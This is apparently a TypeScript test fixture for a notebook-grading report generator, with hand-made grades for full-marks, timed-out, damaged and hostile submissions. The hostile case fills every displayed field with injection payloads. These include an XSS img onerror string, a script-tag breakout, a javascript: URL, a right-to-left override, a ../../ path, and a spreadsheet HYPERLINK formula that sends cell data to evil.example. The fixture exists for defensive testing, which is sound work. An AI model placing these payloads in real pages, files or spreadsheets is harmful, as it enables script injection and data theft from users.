// Hand-made grades for the report tests: full marks, a timeout, a damaged notebook with a
// stage that differs, and a submission with hostile strings in every field a report shows.
import type { GradeReport, QuestionGrade, StageComparison, SubmissionGrade, TestResult } from "../../lib/grading/results";

/** In a hidden test's message only: it must reach grades.json and nothing a student reads. */
export const HIDDEN_MARKER = "HIDDEN_EXPECTED_MARKER";
export const IMG = "<img src=x onerror=alert(1)>";
export const SCRIPT = "</script><script>alert(1)</script>";
export const JS_URL = "javascript:alert(1)";
export const RLO = "\u202E";
/** 100k characters without a break. */
export const LONG = "W".repeat(100_000);
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
export const HOSTILE = `${IMG}${SCRIPT}${JS_URL} ${RLO}evil`;

const third = 1 / 3;

function t(question: string, name: string, hidden: boolean, passed: boolean, maxPoints: number, message = "passed"): TestResult {
  return { name, question, hidden, passed, points: passed ? maxPoints : 0, maxPoints, message: passed ? "passed" : message };
}

function q(id: string, tests: TestResult[], extra: Partial<QuestionGrade> = {}): QuestionGrade {
  return {
    id,
    points: tests.reduce((s, x) => s + x.points, 0),
    maxPoints: tests.reduce((s, x) => s + x.maxPoints, 0),
    status: "ok",
    reason: null,
    tests,
    stages: [],
    stageSummary: null,
    ...extra,
  };
}

function stage(label: string, variable: string | null, expectedCount: number, actualCount: number | null, extra: Partial<StageComparison> = {}): StageComparison {
  return {
    label,
    variable,
    foundBy: actualCount === null ? null : "label",
    status: "match",
    expectedCount,
    actualCount,
    missingRows: 0,
    unexpectedRows: 0,
    changedRows: 0,
    changedFields: [],
    rows: null,
    note: null,
    ...extra,
  };
}

function submission(name: string, questions: QuestionGrade[], extra: Partial<SubmissionGrade> = {}): SubmissionGrade {
  return {
    submission: name,
    file: `submissions/${name}.ipynb`,
    total: questions.reduce((s, x) => s + x.points, 0),
    max: 8,
    status: "ok",
    damage: [],
    questions,
    output: "student output",
    seconds: 4.2,
    ...extra,
  };
}

const q1Tests = (passed: [boolean, boolean, boolean]) => [
  t("q1", "q1-public-1", false, passed[0], third, "expected 3 distinct words, got 4"),
  t("q1", "q1-public-2", false, passed[1], third, "expected 3 distinct words, got 4"),
  t("q1", "q1-hidden-1", true, passed[2], third, `expected 17 distinct words ${HIDDEN_MARKER}`),
];

const matchingStages = [stage("Read students", "students", 4, 4), stage("Filter active", "active", 3, 3), stage("Format dob", "cleaned", 3, 3)];

export const fullMarks = submission("ada", [
  q("q1", q1Tests([true, true, true])),
  q("q2", [t("q2", "q2-public-1", false, true, 1.5), t("q2", "q2-hidden-1", true, true, 2.5)], { stages: matchingStages, stageSummary: "everything matches" }),
  q("q3", [t("q3", "q3-public-1", false, true, 3)]),
]);

export const timedOut = submission(
  "alan",
  [
    q("q1", q1Tests([true, true, false])),
    q("q2", [t("q2", "q2-public-1", false, false, 1.5, "the cell did not finish"), t("q2", "q2-hidden-1", true, false, 2.5, `did not finish ${HIDDEN_MARKER}`)], {
      status: "timeout",
      reason: "cell 7 ran past 10 s",
    }),
    q("q3", [t("q3", "q3-public-1", false, true, 3)]),
  ],
  { status: "timeout q2" },
);

const differingStages = [
  stage("Read students", "students", 4, 4),
  stage("Filter active", "active", 3, 2, {
    status: "differs",
    missingRows: 1,
    changedRows: 1,
    changedFields: ["dob"],
    rows: {
      missing: [{ sid: "s3", name: "Grace", dob: "1906-12-09" }],
      unexpected: [],
      changed: [{ expected: { sid: "s1", name: "Ada", dob: "1990-01-02" }, actual: { sid: "s1", name: "Ada", dob: "01/02/1990" }, fields: ["dob"] }],
    },
  }),
  stage("Format dob", "cleaned", 3, null, { status: "missing" }),
];

export const damaged = submission(
  "grace",
  [
    q("q1", q1Tests([true, true, true])),
    q("q2", [t("q2", "q2-public-1", false, true, 1.5), t("q2", "q2-hidden-1", true, false, 2.5, `expected [{ sid: "s9" }] ${HIDDEN_MARKER}`)], {
      stages: differingStages,
      stageSummary: "1 row lost and 1 changed at `Filter active`; `Format dob` was not found",
    }),
    q("q3", [t("q3", "q3-public-1", false, false, 3, "q3 is missing")], { status: "missing", reason: "no cell tagged q3" }),
  ],
  { status: "damaged: q3 missing", damage: ["q3 missing", "q2 appears 2 times (the last is graded)"] },
);

const hostileStages = [
  stage(`Read ${HOSTILE}`, `v_${RLO}x`, 2, 2),
  stage(`${IMG} ${LONG}`, HOSTILE, 5, 4, {
    status: "differs",
    missingRows: 2,
    unexpectedRows: 1,
    changedRows: 1,
    changedFields: [HOSTILE, "plain"],
    rows: {
      missing: [{ [IMG]: HOSTILE, plain: LONG }, "a bare string " + SCRIPT],
      unexpected: [{ sid: JS_URL, plain: `${RLO}reversed` }],
      changed: [{ expected: { [HOSTILE]: "a", plain: IMG }, actual: { [HOSTILE]: "b", plain: SCRIPT }, fields: [HOSTILE, "plain"] }],
    },
    note: `note ${IMG}`,
  }),
  stage("Broken", null, 1, null, { status: "error", note: `TypeError: ${SCRIPT}` }),
];

export const hostile = submission(
  FORMULA_NAME,
  [
    q("q1", q1Tests([false, true, false]).map((x) => (x.name === "q1-public-1" ? { ...x, message: `${HOSTILE}\n${LONG}` } : x)), {
      status: "exited",
      reason: `process.exit in ${IMG} \`${SCRIPT}\``,
    }),
    q("q2", [t("q2", "q2-public-1", false, false, 1.5, `${JS_URL}\n${RLO}abc`), t("q2", "q2-hidden-1", true, false, 2.5, `${HIDDEN_MARKER} ${HOSTILE}`)], {
      stages: hostileStages,
      stageSummary: `rows lost at \`${IMG}\`; ${RLO}${LONG}`,
    }),
    q("q3", [t("q3", "q3-public-1", false, true, 3)]),
  ],
  { status: `exited q1, ${IMG}\n"quoted"`, damage: [HOSTILE, `cells reordered ${LONG}`], file: `../../${FORMULA_NAME}.ipynb`, output: `console ${HIDDEN_MARKER}` },
);

export function gradeReport(submissions: SubmissionGrade[] = [fullMarks, timedOut, damaged, hostile]): GradeReport {
  return {
    format: "beamlab-grades",
    version: 1,
    assignment: "a1-clean",
    questions: [{ id: "q1", points: 1 }, { id: "q2", points: 4 }, { id: "q3", points: 3 }],
    totalPoints: 8,
    gradedAt: "2025-01-01T00:00:00.000Z",
    workers: 2,
    submissions,
  };
}
